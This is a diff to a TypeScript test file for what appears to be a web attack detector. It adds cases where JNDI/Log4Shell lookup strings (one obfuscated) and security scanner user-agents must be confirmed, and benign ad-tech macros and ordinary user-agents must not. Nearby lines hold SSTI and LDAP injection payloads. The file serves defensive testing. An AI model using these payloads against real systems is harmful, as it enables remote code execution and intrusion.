@@ -58,6 +58,9 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["jndi", "${jndi:ldap://x.example/a}", true],
   ["jndi", "${${lower:j}ndi:ldap://x/a}", true],
   ["jndi", "${GDPR}", false],
+  // two unfilled ad-tech macros side by side are not a nested lookup
+  ["jndi", "gdpr=${GDPR};gdpr_consent=${GDPR_CONSENT_755};ltd=", false],
+  ["jndi", "${${::-j}ndi:ldap://x/a}", true],
   ["ssti", "{{7*7}}", true],
   ["ssti", "${7*7}", true],
   ["ssti", "{{config.items()}}", true],
@@ -71,6 +74,13 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["crlf", "line one\nline two", false],
   ["ldapi", "*)(uid=*))(|(uid=*", true],
   ["ldapi", "(see page 4)", false],
+  // scanner: a tool's name as a whole word
+  ["scanner", "sqlmap/1.7.2#stable (https://sqlmap.org)", true],
+  ["scanner", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", true],
+  ["scanner", "Fuzz Faster U Fool v2.1.0-dev", true],
+  ["scanner", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", false],
+  ["scanner", "curl/8.4.0", false],
+  ["scanner", "hydrangea garden zappa", false],
 ];
 
 describe("semantic confirmation", () => {
